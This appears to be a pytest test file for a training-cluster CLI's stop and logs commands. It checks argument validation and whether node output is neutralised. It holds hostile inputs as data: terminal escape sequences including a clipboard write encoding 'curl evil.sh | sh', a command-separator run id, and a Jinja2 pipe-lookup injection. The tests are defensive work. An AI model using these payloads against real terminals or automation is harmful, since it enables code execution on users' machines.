"""`stop`, `wait`, `logs`: usage errors found before anything runs; what a node says, as data."""

import io
import json
import sys
from types import SimpleNamespace

import pytest

from torchfleet import cli, run_stream, screen
from torchfleet.cli import run_control
from torchfleet.cli.parser import build_parser
from torchfleet.cli.run_control import logs_command, stop_command
from torchfleet.cli.usage import UsageError


@pytest.mark.parametrize("argv, command, said", [
    (["stop", "tf-1", "--all"], stop_command, "give a run id or --all, not both"),
    (["stop", "a;b"], stop_command, "run id 'a;b' is not valid"),
    (["logs", "--rank", "-1"], logs_command, "--rank takes a rank (0 or more)"),
    (["logs", "--tail", "0"], logs_command, "--tail a number of lines (1 or more)"),
])
def test_bad_arguments_are_named_before_any_node_is_asked(argv, command, said):
    with pytest.raises(UsageError) as raised:
        command(build_parser().parse_args(argv))
    assert said in str(raised.value)


# What a rank, or the training account, can make the head's follower send: escapes a terminal runs
# (the window title, the clipboard, the screen cleared, a C1 CSI, a bell).
HOSTILE = "\x1b]0;pwned\x07 \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 \x1b[2J\x1b[H \x9b31m\x07 cr\rend"


class Terminal(io.StringIO):
    def isatty(self):
        return True


def _logs_on_a_terminal(monkeypatch, said: str, *argv):
    """`torchfleet logs ARGV` on a terminal, from a head whose follower prints the Python
    expression `said`: (rc, stdout, stderr)."""
    head = run_stream.Head("h", "torchfleet", "/runs", [sys.executable, "-c", f"import sys; sys.stdout.write({said})"])
    monkeypatch.setattr(run_control, "follow_target", lambda args: {"head": head, "hostvars": {}})
    monkeypatch.setenv("TERM", "xterm")
    out, err = Terminal(), Terminal()
    monkeypatch.setattr(sys, "stdout", out)
    monkeypatch.setattr(sys, "stderr", err)
    rc = cli.main(["logs", *argv])
    return rc, out.getvalue(), err.getvalue()


def _follower_says(record: dict) -> str:
    return repr("".join(f"{line}\n" for line in (
        f"L {HOSTILE}", f"P n0/0e {HOSTILE}", f"S {HOSTILE}", "E " + json.dumps(record))))


@pytest.mark.parametrize("follow", [False, True])
def test_a_runs_output_and_record_reach_the_terminal_inert(monkeypatch, follow):
    record = {"run_id": "tf-1", "state": "failed", "rc": 1, "msg": HOSTILE, "failed_log": HOSTILE,
              "failed_log_tail": [HOSTILE]}
    rc, out, err = _logs_on_a_terminal(monkeypatch, _follower_says(record), "tf-1", *(["-f"] if follow else []))
    assert rc == (1 if follow else 0), err
    own = screen.UP_AND_CLEAR.format(1) if follow else "\x1b"  # `-f` redraws its bar
    assert "\x1b" not in out.replace(own, "") and "\x1b" not in err, (out, err)
    assert "\x07" not in out + err and "\x9b" not in out + err
    assert "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07" in out and "\\x1b]0;pwned" in err


@pytest.mark.parametrize("follow, rc", [(False, 1), (True, 255)])
def test_a_record_nested_too_deep_is_refused_not_a_crash(monkeypatch, follow, rc):
    found = _logs_on_a_terminal(monkeypatch, "'E ' + '[' * 100_000 + '\\n'", "tf-1", *(["-f"] if follow else []))
    assert found[0] == rc and "the head sent a run's record nested too deep to read: refused" in found[2]


def test_a_bare_stop_never_takes_a_run_id_a_node_made_up(monkeypatch, capsys):
    header = "#jinja2:variable_start_string:'[[',variable_end_string:']]'\n[[ lookup('pipe', 'id > /tmp/x') ]]"
    results = [{"host": "n1", "res": {"runs": [{"run_id": header}]}}]  # the one alive, but not a run id
    monkeypatch.setattr("torchfleet.inventory.cluster_vars", lambda *_: {"group": "cluster", "user": "u"})
    monkeypatch.setattr(run_control, "adhoc", lambda *_: SimpleNamespace(rc=0, progress=SimpleNamespace(results=results)))
    monkeypatch.setattr(run_control, "playbook", lambda *_, **fixed: pytest.fail(f"stopped {fixed}"))
    assert stop_command(build_parser().parse_args(["stop"])) == 0
    err = capsys.readouterr().err
    assert "n1: left out: run id \"#jinja2:" in err and "no run is alive on any node" in err
